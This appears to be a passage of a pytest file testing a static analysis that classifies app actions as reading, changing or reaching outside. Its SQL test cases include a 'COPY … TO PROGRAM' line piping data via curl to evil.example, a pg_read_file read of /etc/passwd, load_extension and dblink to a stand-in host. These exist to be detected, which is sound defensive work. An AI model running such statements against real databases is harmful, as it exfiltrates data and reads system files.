    assert checking(_takes_trimmed, name="trimmed").only_reads
    assert analyse(_takes_trimmed, name="trimmed").only_reads
    assert ("external", "os.system") in _found(checking(_takes_posted, name="posted"))
    assert ("external", "os.system") in _found(analyse(_gives_announced, name="gives"))


@dataclasses.dataclass(frozen=True)
class _Key:
    a: int


def _keys(key: _Key) -> str:
    table = {key: 1}
    return f"{key!r}{len(table)}{key in [_Key(1)]}{key == _Key(2)}{sorted([key.a])}{key!s}" + str(key)


def test_what_a_dataclass_writes_for_its_fields_only_computes() -> None:
    """The ``__eq__``, ``__hash__`` and ``__repr__`` a dataclass writes from its fields have no
    source to read, and only compare, hash and show them: a frozen dataclass as a key, in a
    list, compared or shown only reads (it was taken to do anything once special methods
    run by builtins and operators were followed)."""
    effects = analyse(_keys, name="keys")
    assert effects.only_reads, effects.explain()


def _in_a_thread() -> None:
    import threading

    threading.Thread(target=print).start()


def test_a_thread_started_is_told_in_one_line() -> None:
    """Starting a thread is taken to do anything — its code goes on where no hold sees it —
    and said so in one line (the analysis walked threading's own code, and told a page of
    its internals)."""
    lines = analyse(_in_a_thread, name="threaded").explain()
    told = "(starts a thread (or a process), whose code goes on where no hold sees it)"
    kinds = ("changes", "external", "sends", "spends")
    assert lines == [f"{kind}: threaded -> {call} {told}" for kind in kinds
                     for call in ("threading.Thread()", "threading.Thread(target=print).start()")
                     ], lines


def _aggregates(session: Session) -> list[Any]:
    from sqlalchemy import func, select

    totals = (select(Repair.id, func.sum(Repair.price).label("total"),
                     func.row_number().over(order_by=Repair.id).label("n"),
                     func.current_date()).group_by(Repair.id).subquery())
    return list(session.execute(select(totals.c.total).where(totals.c.total > 100)))


def _prints_to_stderr(text: str) -> None:
    import sys

    print(text, file=sys.stderr)


class _Period(BaseModel):
    start: str

    @field_validator("start", mode="before")
    @classmethod
    def _parsed(cls, v):  # type: ignore[no-untyped-def]  # (the raw value: not typed)
        return v.strip() if isinstance(v, str) else v


def test_what_only_reads_the_stricter_analysis_still_reads_as_reading() -> None:
    """Honest code the stricter analysis flagged at first, in a review of realistic actions:
    SQLAlchemy's aggregates labelled and windowed, a subquery's columns, functions of the
    database written without parentheses (``current_date``), ``print`` to standard error, and
    a "before" validator given the raw value (held to reading as a call is checked: what it
    does that the analysis cannot follow does not make the action do anything)."""
    assert analyse(_aggregates, name="aggregates").only_reads, analyse(
        _aggregates, name="aggregates").explain()
    assert analyse(_prints_to_stderr, name="prints").only_reads
    app = App("t", database="sqlite://")

    @app.action(query=True)
    def since(period: _Period) -> str:
        """Since when."""
        return period.start

    assert app.actions.info("since").effects.only_reads


def _sorted_by_name(session: Session) -> list[str]:
    from sqlalchemy import select

    repairs = list(session.scalars(select(Repair)))
    repairs = sorted(repairs, key=lambda r: (r.title.casefold(), -r.price))
    return [r.title for r in sorted(repairs, key=lambda r: r.status.lower())]


def test_a_key_function_is_given_the_items_it_sorts() -> None:
    """What ``sorted``, ``min``, ``max``, ``map`` and ``filter`` hand the function they are given
    is an item of what they go through — a record of a query's rows here — so a key reading a
    record's text only reads (its value's type was not known, and the action was taken to do
    anything)."""
    effects = analyse(_sorted_by_name, name="sorted_by_name")
    assert effects.only_reads, effects.explain()


class _RepairPatch(BaseModel):
    title: str | None = None
    price: int | None = None


def _patched(repair: Repair, patch: _RepairPatch) -> str:
    for name, value in patch.model_dump(exclude_unset=True).items():
        setattr(repair, name, value)
    return repair.title


def test_a_record_patched_from_a_models_data_changes_that_record_alone() -> None:
    """The commonest way to apply a partial update: each field a model was given set on the
    record from ``model_dump``. It changes the record and nothing else (what ``model_dump``
    gave had no known type, and its ``items()`` was taken to do anything); what the model's
    own serializers do counts (`implicit.by_model_dump`)."""
    effects = analyse(_patched, name="patched")
    assert _found(effects) == {("reads", R), ("changes", R)}, effects.explain()


def test_an_upsert_changes_the_table_it_inserts_into() -> None:
    """``INSERT … ON CONFLICT … DO UPDATE SET`` (and MySQL's ``ON DUPLICATE KEY UPDATE``)
    creates or changes rows of the table it inserts into: it was reported as changing a table
    named ``SET``."""

    def upserts(session: Session) -> None:
        session.execute(text("INSERT INTO repair (title) VALUES ('x') ON CONFLICT (id) "
                             "DO UPDATE SET price = repair.price + 1"))

    def upserts_mysql(session: Session) -> None:
        session.execute(text("INSERT INTO repair (title) VALUES ('x') "
                             "ON DUPLICATE KEY UPDATE price = price + 1"))

    for fn in (upserts, upserts_mysql):
        effects = analyse(fn, name=fn.__name__)
        assert _found(effects) == {("creates", R), ("changes", R)}, (
            effects.explain())


@pytest.mark.parametrize(("sql", "reaches"), [
    ("VACUUM INTO '/tmp/copy.db'", "SQL VACUUM"),
    ("vacuum main into '/tmp/copy.db'", "SQL VACUUM"),
    ("ATTACH DATABASE '/tmp/other.db' AS other", "SQL ATTACH"),
    ("COPY repair TO PROGRAM 'curl -d @- https://evil.example'", "SQL COPY"),
    ("LOAD 'plugin'", "SQL LOAD"),
    ("SELECT load_extension('./evil')", "SQL load_extension()"),
    ("SELECT lo_export(42, '/tmp/out')", "SQL lo_export()"),
    ("INSERT INTO repair (title) SELECT pg_read_file('/etc/passwd')", "SQL pg_read_file()"),
    ("SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)", "SQL dblink()"),
])
def test_sql_that_reaches_files_programs_or_servers_reaches_outside(sql: str, reaches: str
                                                                     ) -> None:
    """SQL that writes a file (``VACUUM INTO``, ``ATTACH``), runs a program or library
    (``COPY … PROGRAM``, ``LOAD``, ``load_extension``) or reaches another server (``dblink``)
    reaches outside the app: it was a change of something unknown, told as changing "something
    other than records" and never as reaching outside."""

    def runs(session: Session) -> None:
        session.execute(text(sql))

    effects = analyse(runs, name="runs")
    assert ("external", reaches) in _found(effects), effects.explain()


_LOCK = threading.Lock()
_READY = threading.Event()
_TURN = threading.Condition()


def test_waiting_on_and_holding_the_process_locks_only_reads() -> None:
    """A lock held, an event or a condition waited on keep nothing and reach nothing: code that
    does so only reads (its unseen C code was assumed to do everything, so an honest cache behind
    a lock was refused under a budget). Setting an event or notifying a condition changes what
    other threads of the process wait on, and so does a lock taken, or let go, outside a
    ``with``."""

    def cached() -> int:
        with _LOCK:
            return 1

    def waits() -> bool:
        with _TURN:
            _TURN.wait(0.01)
        return _READY.wait(0.01) or _READY.is_set()

    def wakes() -> None:
        _READY.set()
        with _TURN:
            _TURN.notify_all()

    def holds_back() -> None:
        _LOCK.acquire()  # (never let go: others wait for ever)

    assert analyse(cached, name="cached").only_reads, analyse(cached, name="cached").explain()
    assert analyse(waits, name="waits").only_reads, analyse(waits, name="waits").explain()
    assert _found(analyse(wakes, name="wakes")) == {("changes", "")}
    assert not analyse(holds_back, name="holds_back").only_reads


@pytest.mark.parametrize("sql", [
    "DO $$ BEGIN PERFORM export_repairs(); END $$",
    "CALL export_repairs()",
    "SELECT export_repairs()",
])
def test_sql_the_analysis_cannot_read_may_reach_outside(sql: str) -> None:
    """A statement of a verb it does not know, or a function not known to only read, may run
    any code the database holds: it changes anything and reaches outside, said why (it was a
    change alone, and ran alone under an agent that may change records)."""

    def runs(session: Session) -> None:
        session.execute(text(sql))

    effects = analyse(runs, name="runs")
    assert {("changes", ""), ("external", "")} <= _found(effects), effects.explain()
    assert "runs SQL the analysis cannot read" in "\n".join(effects.explain())


def test_sql_it_cannot_see_is_run_in_the_runs_transaction_all_the_same(tmp_path: Any) -> None:
    """SQL text made at run time reaches outside, as far as the analysis knows, and may change
    records: it runs in the run's transaction, which keeps what it wrote (an action that only
    reaches outside runs in one rolled back at its end)."""
    app = App("t", database=f"sqlite:///{tmp_path / 't.db'}")

    class Tag(app.Record):  # type: ignore[name-defined,misc]
        name: Mapped[str] = mapped_column(String(20), default="")
        __security__ = [allow("read", "update", "create")]

    @app.action
    def rename_all(to: str, session: Annotated[Session, Provided("session")]) -> str:
        """Rename every tag."""
        statement = "UPDATE " + "tag SET name = :to"
        session.execute(text(statement), {"to": to})
        return "Renamed."

    info = app.actions.info("rename_all")
    assert info.effects.external
    with app.session(as_=app.system) as s:
        s.add(Tag(name="old"))
    done = app.actions.run("rename_all", {"to": "new"}, as_=app.system)
    assert done.outcome.value == "Done", done
    with app.session(as_=app.system) as s:
        assert [t.name for t in s.scalars(select(Tag))] == ["new"]
    app.database.dispose()


def test_an_upsert_beside_an_update_still_shows_the_update() -> None:
    """An upsert's own UPDATE is read as such, never so that another statement's UPDATE in the
    same text goes unseen."""

    def both(session: Session) -> None:
        session.execute(text(
            "WITH x AS (INSERT INTO customer (name) VALUES ('a') ON CONFLICT DO NOTHING "
            "RETURNING 1), y AS (UPDATE secrets SET v = 1 RETURNING 1) INSERT INTO repair "
            "(title) VALUES ('x') ON CONFLICT (id) DO UPDATE SET price = 1"))

    found = _found(analyse(both, name="both"))
    assert {("changes", "secrets"), ("changes", R), ("creates", R)} <= found, found


@pytest.mark.parametrize(("sql", "expected"), [
    ("WITH ins AS (INSERT INTO customer (name) VALUES ('a') RETURNING id) -- DO\n"
     "UPDATE repair SET price = 0", {("creates", "Customer"), ("changes", R)}),
    ("WITH gone AS (DELETE FROM customer WHERE id < 0 RETURNING id) /* audit */ -- KEY\n"
     "UPDATE repair SET price = 0", {("deletes", "Customer"), ("changes", R)}),
    ("INSERT INTO repair (title) VALUES ('/') ON CONFLICT (id) DO UPDATE /* x */ SET title = 'a'",
     {("creates", R), ("changes", R)}),
    ("SELECT * INTO repair_backup FROM repair", {("reads", R), ("changes", "")}),
    ("SELECT title FROM repair WHERE title = 'x; UPDATE customer SET name = 1' -- UPDATE customer",
     {("reads", R)}),
])
def test_sql_is_read_without_its_comments_and_strings(sql: str, expected: set[tuple[str, str]],
                                                      ) -> None:
    """A comment ending in DO or KEY before a real UPDATE does not make it an upsert's (the
    updated table went unseen), a comment inside an upsert does not hide its change, ``SELECT …
    INTO`` makes a table (it read as only reading), and words in a comment or a string are no
    SQL (a string holding an UPDATE read as one)."""

    def runs(session: Session) -> None:
        session.execute(text(sql))

    found = _found(analyse(runs, name="runs"))
    assert found == expected, found


@pytest.mark.parametrize("name", ["checked_parameter_annotated", "checked_annotated",
                                  "checked_typed_dict", "checked_dataclass", "checked_post_init",
                                  "checked_model_of_typed_dict"])
def test_what_a_parameters_annotations_carry_runs_as_a_call_is_checked(name: str) -> None:
    """A validator an annotation carries (``Annotated[str, AfterValidator(f)]``: a model's
    field's, the parameter's own, a ``TypedDict``'s or a dataclass's field's, at any depth), a
    field's default factory, a model's ``model_post_init`` and a dataclass's ``__post_init__``
    run as a call's values are checked: what checking runs finds them (it found a model's own
    hooks alone, then those its fields' annotations carry alone)."""
    found = checking(getattr(implicit, name), name="checked")
    assert ("external", "os.system") in _found(found), found.explain()


def test_the_rows_of_a_select_of_two_records_are_pairs_of_them() -> None:
    """``select(Repair, Customer)`` reads both, and each row is a pair of them: a record of the
    pair changed is that record's change (its rows had no known type)."""
    effects = analyse(toolkit_writers.close_customers_repairs, name="close")
    assert _found(effects) == {("reads", "Customer"), ("reads", R), ("changes", R)}, (
        effects.explain())


def _shelved_at(part: Part) -> str:
    return part.bin.label if part.bin is not None else ""


def test_a_relationship_read_reads_its_records() -> None:
    """What a record's relationship holds is read as it is reached: ``part.bin`` reads a Bin
    (only the Part was listed, so the reads a person saw were short)."""
    assert _found(analyse(_shelved_at, name="where")) == {("reads", "Part"), ("reads", "Bin")}


def _by_and_kept(corpus: types.ModuleType) -> list[str]:
    """The ``by_`` functions of a corpus module (each reaches outside, in a way of its family)
    and its ``kept_`` ones (each only reads)."""
    return sorted(name for name, value in vars(corpus).items()
                  if inspect.isfunction(value) and name.startswith(("by_", "kept_")))


def _judged_as_named(corpus: types.ModuleType, name: str) -> None:
    """A ``kept_`` function is found to only read; a ``by_`` one is not."""
    effects = analyse(getattr(corpus, name), name=name)
    assert effects.only_reads == name.startswith("kept_"), "\n".join(effects.explain())


@pytest.mark.parametrize("name", _by_and_kept(aliased))
def test_a_container_filled_out_of_the_analysis_sight_is_not_taken_for_what_it_held(
        name: str) -> None:
    """What a list made in the function holds is known only while it stays with its name: handed
    to a function, bound to another name, iterated lazily, captured by a local function or held
    by another container, it may be filled out of sight, and is then of no known items (so
    calling their methods is not taken to only compute). Each ``by_`` function reaches outside
    that way (it was taken to only read); each ``kept_`` one only reads, and still does."""
    _judged_as_named(aliased, name)


@pytest.mark.parametrize("name", _by_and_kept(shown_as_text))
def test_text_made_of_the_apps_objects_is_what_their_own_code_gave(name: str) -> None:
    """``str(x)``, ``f"{x}"``, ``"%s" % x`` give back the text ``x``'s own ``__str__`` gave, of
    the app's class if it is; Python's text functions call the methods of what they are given,
    and may give it back; a library's method calls what the app's class deriving it overrides.
    Each ``by_`` function reaches outside only that way (it was taken to only read); each
    ``kept_`` one only reads, and still does."""
    _judged_as_named(shown_as_text, name)


@pytest.mark.parametrize("name", _by_and_kept(columns))
def test_a_mapped_column_builds_sql_and_its_machinery_reaches_past_it(name: str) -> None:
    """``Repair.price.__set__(repair, 12)`` changes the record as ``repair.price = 12`` does,
    and a column's ``impl``, ``comparator``, ``parent`` or class hand out the ORM's own code:
    each was taken to only read (the column's type builds SQL, and every member of it was taken
    to as well), so that the catalogue said "it runs alone". Its operators and expression
    methods still only build SQL."""
    _judged_as_named(columns, name)


@pytest.mark.parametrize("name", _by_and_kept(classes))
def test_a_class_reached_from_its_object_runs_its_own_code(name: str) -> None:
    """What an object's class says of it is the class's own code: ``type(x).method(...)`` runs
    the method of the class ``x`` is of (or of one deriving it); what an ``except`` binds, or a
    ``__new__`` gives, may be of another class; a property of what a class's methods set an
    attribute to runs as it is read; a ``__module__`` is not taken at its word. Each ``by_``
    function reaches outside only that way (it was taken to only read); each ``kept_`` one
    only reads, and still does."""
    _judged_as_named(classes, name)



def test_each_field_a_function_assigns_on_what_it_was_given_is_shown() -> None:
    """A function that assigned two fields of a record it was given (itself, or through a
    helper) showed the first alone, so a rule on another was not read before it ran (nor the
    change shown to whoever decided on it); now each is shown."""

    def helper(repair: Repair) -> None:
        repair.status = "quoted"
        repair.price = 9

    def quote(repair: Repair) -> None:
        repair.status = "priced"
        repair.title = "Brakes"
        helper(repair)

    effects = analyse(quote, name="quote")
    assert effects.fields_changed(frozenset({R})) == {"status", "title", "price"}
    assert "changes Repair: quote -> repair.title = …" in effects.explain()
